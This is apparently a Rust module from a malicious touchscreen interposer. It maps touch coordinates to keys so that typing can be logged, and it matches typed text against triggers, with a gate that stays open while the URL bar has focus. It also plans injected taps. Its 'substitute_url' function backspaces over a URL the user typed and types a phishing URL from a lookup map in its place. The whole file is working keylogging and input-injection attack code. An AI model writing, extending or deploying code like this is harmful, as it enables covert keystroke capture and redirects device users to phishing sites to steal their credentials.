//! Keyboard knowledge the interposer needs for logging and injection: a
//! database mapping screen regions to virtual keys per keyboard mode, the
//! mode state machine, the typing state machine with trigger matching, and
//! the tap planner that turns text into a rate-capped injection schedule.

use std::collections::BTreeMap;
use std::fmt;
use std::path::Path;

use serde::{de, Deserialize, Deserializer, Serialize, Serializer};
use thiserror::Error;

use crate::controller::TouchFrame;

/// Hard cap on injected tap rate.
pub const MAX_TAP_RATE: u32 = 60;

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum KeyboardMode {
    Letters,
    Symbols,
    Numbers,
    Emoji,
}

impl KeyboardMode {
    pub const ALL: [KeyboardMode; 4] =
        [KeyboardMode::Letters, KeyboardMode::Symbols, KeyboardMode::Numbers, KeyboardMode::Emoji];

    pub fn as_str(&self) -> &'static str {
        match self {
            KeyboardMode::Letters => "letters",
            KeyboardMode::Symbols => "symbols",
            KeyboardMode::Numbers => "numbers",
            KeyboardMode::Emoji => "emoji",
        }
    }
}

/// A virtual key: a character or one of the control tokens.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Key {
    Char(char),
    Shift,
    ModeSwitch(KeyboardMode),
    Backspace,
    Enter,
}

impl Key {
    pub fn token(&self) -> String {
        match self {
            Key::Char(c) => c.to_string(),
            Key::Shift => "shift".to_string(),
            Key::ModeSwitch(m) => format!("mode:{}", m.as_str()),
            Key::Backspace => "backspace".to_string(),
            Key::Enter => "enter".to_string(),
        }
    }

    pub fn from_token(s: &str) -> Option<Key> {
        match s {
            "shift" => Some(Key::Shift),
            "backspace" => Some(Key::Backspace),
            "enter" => Some(Key::Enter),
            "mode:letters" => Some(Key::ModeSwitch(KeyboardMode::Letters)),
            "mode:symbols" => Some(Key::ModeSwitch(KeyboardMode::Symbols)),
            "mode:numbers" => Some(Key::ModeSwitch(KeyboardMode::Numbers)),
            "mode:emoji" => Some(Key::ModeSwitch(KeyboardMode::Emoji)),
            _ => {
                let mut chars = s.chars();
                match (chars.next(), chars.next()) {
                    (Some(c), None) => Some(Key::Char(c)),
                    _ => None,
                }
            }
        }
    }
}

impl fmt::Display for Key {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.token())
    }
}

impl Serialize for Key {
    fn serialize<S: Serializer>(&self, s: S) -> Result<S::Ok, S::Error> {
        s.serialize_str(&self.token())
    }
}

impl<'de> Deserialize<'de> for Key {
    fn deserialize<D: Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        let raw = String::deserialize(d)?;
        Key::from_token(&raw).ok_or_else(|| de::Error::custom(format!("bad key token {raw:?}")))
    }
}

/// Half-open pixel rectangle: contains (x, y) iff x0 <= x < x1, y0 <= y < y1.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Rect {
    pub x0: u16,
    pub y0: u16,
    pub x1: u16,
    pub y1: u16,
}

impl Rect {
    pub fn new(x0: u16, y0: u16, x1: u16, y1: u16) -> Self {
        Rect { x0, y0, x1, y1 }
    }

    pub fn contains(&self, x: u16, y: u16) -> bool {
        x >= self.x0 && x < self.x1 && y >= self.y0 && y < self.y1
    }

    pub fn center(&self) -> (u16, u16) {
        ((self.x0 + self.x1) / 2, (self.y0 + self.y1) / 2)
    }

    fn intersects(&self, other: &Rect) -> bool {
        self.x0 < other.x1 && other.x0 < self.x1 && self.y0 < other.y1 && other.y0 < self.y1
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct KeyRegion {
    pub mode: KeyboardMode,
    pub rect: Rect,
    pub key: Key,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
struct LayoutFile {
    v: u32,
    regions: Vec<KeyRegion>,
}

#[derive(Debug, Error)]
pub enum LayoutError {
    #[error("layout i/o: {0}")]
    Io(#[from] std::io::Error),
    #[error("layout parse: {0}")]
    Parse(#[from] serde_json::Error),
    #[error("regions {0} and {1} overlap within mode {2:?}")]
    Overlap(usize, usize, KeyboardMode),
}

#[derive(Debug, Clone, PartialEq)]
pub struct KeyboardLayout {
    regions: Vec<KeyRegion>,
}

impl KeyboardLayout {
    pub fn new(regions: Vec<KeyRegion>) -> Result<Self, LayoutError> {
        for (i, a) in regions.iter().enumerate() {
            for (j, b) in regions.iter().enumerate().skip(i + 1) {
                if a.mode == b.mode && a.rect.intersects(&b.rect) {
                    return Err(LayoutError::Overlap(i, j, a.mode));
                }
            }
        }
        Ok(KeyboardLayout { regions })
    }

    /// The stock four-mode keyboard for a given panel, grid-built.
    pub fn qwerty(panel_width: u16, panel_height: u16) -> Self {
        let mut regions = Vec::new();
        let top = panel_height.saturating_sub(760);
        let row_h = 180;
        let key_w = panel_width / 10;
        let wide_w = panel_width / 6;

        let mut add_row = |mode: KeyboardMode, row: usize, keys: &[Key], width: u16| {
            let y0 = top + (row as u16) * row_h;
            for (i, key) in keys.iter().enumerate() {
                let x0 = (i as u16) * width;
                regions.push(KeyRegion {
                    mode,
                    rect: Rect::new(x0, y0, x0 + width, y0 + row_h),
                    key: *key,
                });
            }
        };

        let chars = |s: &str| -> Vec<Key> { s.chars().map(Key::Char).collect() };
        add_row(KeyboardMode::Letters, 0, &chars("qwertyuiop"), key_w);
        add_row(KeyboardMode::Letters, 1, &chars("asdfghjkl."), key_w);
        add_row(KeyboardMode::Letters, 2, &chars("zxcvbnm-/:"), key_w);
        add_row(KeyboardMode::Numbers, 0, &chars("1234567890"), key_w);
        add_row(KeyboardMode::Numbers, 1, &chars(".,-_/:;()&"), key_w);
        add_row(KeyboardMode::Symbols, 0, &chars("!@#$%^&*()"), key_w);
        add_row(KeyboardMode::Symbols, 1, &chars("_=+[]{}<>~"), key_w);
        let mut sym_row2 = chars("\"'?,;\\|");
        sym_row2.push(Key::Shift);
        add_row(KeyboardMode::Symbols, 2, &sym_row2, key_w);
        add_row(KeyboardMode::Emoji, 0, &chars("\u{1f600}\u{1f602}\u{2764}\u{1f44d}\u{1f389}"), wide_w);

        for mode in KeyboardMode::ALL {
            let others: Vec<KeyboardMode> =
                KeyboardMode::ALL.iter().copied().filter(|m| *m != mode).collect();
            let bottom = [
                Key::ModeSwitch(others[0]),
                Key::ModeSwitch(others[1]),
                Key::Char(' '),
                Key::Enter,
                Key::Backspace,
                Key::ModeSwitch(others[2]),
            ];
            add_row(mode, 3, &bottom, wide_w);
        }

        KeyboardLayout::new(regions).expect("builtin layout is overlap-free")
    }

    pub fn load(path: &Path) -> Result<Self, LayoutError> {
        let text = std::fs::read_to_string(path)?;
        let file: LayoutFile = serde_json::from_str(&text)?;
        KeyboardLayout::new(file.regions)
    }

    pub fn to_json(&self) -> String {
        let file = LayoutFile { v: 1, regions: self.regions.clone() };
        serde_json::to_string_pretty(&file).expect("layout encode")
    }

    pub fn regions(&self) -> &[KeyRegion] {
        &self.regions
    }

    /// The key under (x, y) in `mode`, `None` outside every region.
    pub fn decode_key(&self, mode: KeyboardMode, x: u16, y: u16) -> Option<Key> {
        self.regions
            .iter()
            .find(|r| r.mode == mode && r.rect.contains(x, y))
            .map(|r| r.key)
    }

    pub fn key_center(&self, mode: KeyboardMode, key: &Key) -> Option<(u16, u16)> {
        self.regions
            .iter()
            .find(|r| r.mode == mode && r.key == *key)
            .map(|r| r.rect.center())
    }

    /// First mode (in enum order) whose layout carries `key`.
    pub fn mode_of(&self, key: &Key) -> Option<KeyboardMode> {
        KeyboardMode::ALL
            .into_iter()
            .find(|m| self.key_center(*m, key).is_some())
    }
}

/// Mode transitions happen only on mode-switch keys.
pub fn step_keyboard_mode(mode: KeyboardMode, key: &Key) -> KeyboardMode {
    match key {
        Key::ModeSwitch(m) => *m,
        _ => mode,
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Focus {
    #[default]
    Unknown,
    UrlBar,
    Other,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Trigger {
    pub id: String,
    pub pattern: String,
    /// Fire when the whole buffer equals the pattern as enter is pressed,
    /// rather than as soon as the buffer ends with it.
    pub on_enter: bool,
}

/// Tracks what the user has typed and matches it against triggers. Triggers
/// re-fire on every completed match; there is no latch.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TypingState {
    pub buffer: String,
    pub focus: Focus,
    pub triggers: Vec<Trigger>,
}

impl TypingState {
    pub fn with_triggers(triggers: Vec<Trigger>) -> Self {
        TypingState { buffer: String::new(), focus: Focus::Unknown, triggers }
    }

    fn url_gate_open(&self) -> bool {
        // With no focus information the gate stays open.
        !matches!(self.focus, Focus::Other)
    }
}

/// Advance the typing machine by one key; returns ids of triggers that fired.
pub fn step_typing(state: &mut TypingState, key: &Key) -> Vec<String> {
    let mut fired = Vec::new();
    match key {
        Key::Char(c) => {
            state.buffer.push(*c);
            if state.url_gate_open() {
                for t in &state.triggers {
                    if !t.on_enter && state.buffer.ends_with(&t.pattern) {
                        fired.push(t.id.clone());
                    }
                }
            }
        }
        Key::Backspace => {
            state.buffer.pop();
        }
        Key::Enter => {
            if state.url_gate_open() {
                for t in &state.triggers {
                    if t.on_enter && state.buffer == t.pattern {
                        fired.push(t.id.clone());
                    }
                }
            }
            state.buffer.clear();
        }
        Key::Shift | Key::ModeSwitch(_) => {}
    }
    fired
}

#[derive(Debug, Error, Clone, PartialEq, Eq)]
pub enum PlanError {
    #[error("symbol {0:?} unreachable in any keyboard mode")]
    UnreachableSymbol(char),
    #[error("tap rate {0} outside 1..={max}", max = MAX_TAP_RATE)]
    InvalidRate(u32),
    #[error("no phishing mapping for {0:?}")]
    NoMapping(String),
}

/// One scheduled frame and the time until the next one.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PlanStep {
    pub frame: TouchFrame,
    pub dwell_us: u64,
}

/// A rate-capped tap schedule. `taps` counts finger-down events; the plan
/// duration is `ceil(taps / rate)` seconds in microseconds, so the rate law
/// `taps / duration <= rate` holds exactly.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct InjectionPlan {
    pub steps: Vec<PlanStep>,
    pub taps: u32,
    pub rate: u32,
    pub duration_us: u64,
}

impl InjectionPlan {
    /// Absolute offsets of every step from plan start.
    pub fn schedule(&self) -> Vec<(u64, &TouchFrame)> {
        let mut at = 0;
        let mut out = Vec::with_capacity(self.steps.len());
        for s in &self.steps {
            out.push((at, &s.frame));
            at += s.dwell_us;
        }
        out
    }
}

const INJECT_FINGER: u8 = 0;
const INJECT_PRESSURE: u8 = 0x40;

fn plan_from_points(points: &[(u16, u16)], rate: u32) -> Result<InjectionPlan, PlanError> {
    if rate == 0 || rate > MAX_TAP_RATE {
        return Err(PlanError::InvalidRate(rate));
    }
    let taps = points.len() as u64;
    let duration_us = (taps * 1_000_000).div_ceil(u64::from(rate));
    let up_after = 500_000 / u64::from(rate);
    let mut events: Vec<(u64, TouchFrame)> = Vec::with_capacity(points.len() * 2);
    for (k, (x, y)) in points.iter().enumerate() {
        let down_at = (k as u64) * 1_000_000 / u64::from(rate);
        events.push((down_at, TouchFrame::tap_down(INJECT_FINGER, *x, *y, INJECT_PRESSURE)));
        events.push((down_at + up_after, TouchFrame::tap_up(INJECT_FINGER, *x, *y)));
    }
    let mut steps = Vec::with_capacity(events.len());
    for i in 0..events.len() {
        let next_at = events.get(i + 1).map(|(t, _)| *t).unwrap_or(duration_us);
        let (at, frame) = &events[i];
        steps.push(PlanStep { frame: frame.clone(), dwell_us: next_at - at });
    }
    Ok(InjectionPlan { steps, taps: taps as u32, rate, duration_us })
}

/// Taps at arbitrary screen points (app icons, buttons), one tap per point.
pub fn plan_point_taps(points: &[(u16, u16)], rate: u32) -> Result<InjectionPlan, PlanError> {
    plan_from_points(points, rate)
}

/// Resolve `text` into the key taps that type it, inserting mode-switch taps
/// as needed and returning to letters after each excursion. `\n` is enter.
pub fn resolve_key_taps(
    text: &str,
    layout: &KeyboardLayout,
) -> Result<Vec<(KeyboardMode, Key)>, PlanError> {
    let mut mode = KeyboardMode::Letters;
    let mut out = Vec::new();
    for ch in text.chars() {
        let key = if ch == '\n' { Key::Enter } else { Key::Char(ch) };
        if layout.key_center(mode, &key).is_some() {
            out.push((mode, key));
            continue;
        }
        let target = layout.mode_of(&key).ok_or(PlanError::UnreachableSymbol(ch))?;
        out.push((mode, Key::ModeSwitch(target)));
        mode = target;
        out.push((mode, key));
    }
    if mode != KeyboardMode::Letters {
        out.push((mode, Key::ModeSwitch(KeyboardMode::Letters)));
    }
    Ok(out)
}

/// Plan the taps that type `text` at `rate` taps per second.
pub fn plan_taps(text: &str, layout: &KeyboardLayout, rate: u32) -> Result<InjectionPlan, PlanError> {
    let taps = resolve_key_taps(text, layout)?;
    let points: Vec<(u16, u16)> = taps
        .iter()
        .map(|(mode, key)| layout.key_center(*mode, key).expect("resolved key has a region"))
        .collect();
    plan_from_points(&points, rate)
}

/// Replace a hand-typed URL: erase it with backspaces, type the phishing URL,
/// press enter. Errors with `NoMapping` when the map has no entry.
pub fn substitute_url(
    typed: &str,
    phish_map: &BTreeMap<String, String>,
    layout: &KeyboardLayout,
    rate: u32,
) -> Result<InjectionPlan, PlanError> {
    let phish = phish_map.get(typed).ok_or_else(|| PlanError::NoMapping(typed.to_string()))?;
    let mut keys: Vec<(KeyboardMode, Key)> = Vec::new();
    for _ in 0..typed.chars().count() {
        keys.push((KeyboardMode::Letters, Key::Backspace));
    }
    keys.extend(resolve_key_taps(phish, layout)?);
    keys.push((KeyboardMode::Letters, Key::Enter));
    let points: Vec<(u16, u16)> = keys
        .iter()
        .map(|(mode, key)| {
            layout
                .key_center(*mode, key)
                .ok_or(PlanError::UnreachableSymbol('\u{fffd}'))
        })
        .collect::<Result<_, _>>()?;
    plan_from_points(&points, rate)
}
